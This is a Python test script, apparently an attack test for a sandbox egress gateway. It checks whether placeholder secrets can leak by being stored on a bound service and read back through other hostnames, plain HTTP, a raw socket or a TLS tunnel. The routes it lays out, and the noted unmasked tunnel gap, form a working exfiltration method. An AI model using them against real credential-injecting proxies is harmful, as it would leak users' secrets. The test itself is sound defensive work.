"""Uses a bound service that stores what it is sent as a mailbox for the real value of a secret:
STORE_TOKEN is bound to POST on store.example.test, whose /store keeps the request line and
every header, and whose /load gives them back under every name of the same service. Each store
carries the placeholder in the query, a custom header, a cookie and Authorization; each store is
then read back every way the sandbox has: with GET on the bound host itself (a method outside
the binding, so no credential applies), through another intercepted name (api.example.test),
over plain http:// through the proxy and the transparent listener, and through a TLS tunnel to
another allowed name (git.example.test) for a store made without Authorization.
Blocked when: the value goes only into Authorization (the secret's default place), never into a
query or another header, so what the tunnel reads back holds the placeholder; and every response
the gateway can read — any mode, any host, any method — is masked of every secret value spaced
knows (the readbacks show a run of '*' where the value was stored). Not covered here: a stored
Authorization read back through a tunnel, which the gateway cannot see into
(docs/threat-model.md, "Not promised").
space-attack: sandbox=fresh opts=--secret,STORE_TOKEN,--secret,API_TOKEN timeout=60
"""
import os
import socket

import requests

PH = os.environ.get("STORE_TOKEN", "")
PREFIX = os.environ["SPACE_EGRESS_SECRET_PREFIX"]
KEY = os.urandom(5).hex()
escapes, notes = [], []
if not PH.startswith("space_ph_STORE_TOKEN_"):
    print("ERROR: $STORE_TOKEN is not a placeholder: %r" % PH[:40])
    raise SystemExit(2)

s = requests.Session()
full = {"Authorization": "Bearer " + PH, "X-Note": PH, "Cookie": "t=" + PH}
r = s.post("https://store.example.test/store?k=%s-a&v=%s" % (KEY, PH), headers=full, data="x",
           timeout=15)
if r.status_code != 201:
    print("ERROR: storing answered %d: %s" % (r.status_code, r.text[:200]))
    raise SystemExit(2)
r = s.post("https://store.example.test/store?k=%s-b&v=%s" % (KEY, PH),
           headers={"X-Note": PH, "Cookie": "t=" + PH}, data="x", timeout=15)
if r.status_code != 201:
    print("ERROR: storing answered %d: %s" % (r.status_code, r.text[:200]))
    raise SystemExit(2)


def check(what, text, masked):
    if PREFIX in text:
        i = text.index(PREFIX)
        escapes.append("%s: the stored value came back: %s" % (what, text[max(0, i - 40):i + 60]))
    elif PH not in text:
        print("ERROR: %s: the readback lacks the placeholder: %r" % (what, text[:300]))
        raise SystemExit(2)
    elif masked and "Bearer ****" not in text:
        print("ERROR: %s: the stored Authorization is neither the value nor masked: %r"
              % (what, text[:300]))
        raise SystemExit(2)
    else:
        notes.append(what)


# Stored with Authorization: read back where the gateway sees the response.
for url in ("https://store.example.test/load?k=%s-a" % KEY,      # GET: outside the binding
            "https://api.example.test/load?k=%s-a" % KEY,        # another intercepted name
            "http://plain.example.test/load?k=%s-a" % KEY):      # plain HTTP, proxy
    r = s.get(url, timeout=15)
    check("GET " + url.split("?")[0], r.text + str(dict(r.headers)), masked=True)
sock = socket.create_connection(("127.0.0.1", 80), timeout=10)
sock.sendall(b"GET /load?k=%s-a HTTP/1.1\r\nHost: plain.example.test\r\nConnection: close\r\n\r\n"
             % KEY.encode())
raw = b""
while True:
    b = sock.recv(65536)
    if not b:
        break
    raw += b
check("transparent http://plain.example.test/load", raw.decode("latin-1"), masked=True)
# Stored without Authorization: the query, header and cookie kept the placeholder, so even a
# tunnel (never masked) reads back nothing but it.
r = s.get("https://git.example.test/load?k=%s-b" % KEY, timeout=15)
check("tunneled GET https://git.example.test/load", r.text, masked=False)
for needle in ("v=" + PH, "X-Note: " + PH, "t=" + PH):
    if needle not in r.text:
        escapes.append("the stored %r lost its placeholder: %r" % (needle.split(PH)[0], r.text))

if escapes:
    print("ESCAPED: " + "; ".join(escapes)[:1500])
    raise SystemExit(1)
print("BLOCKED: stored value masked on every readback the gateway sees (%s); query, header and "
      "cookie kept the placeholder" % ", ".join(notes))
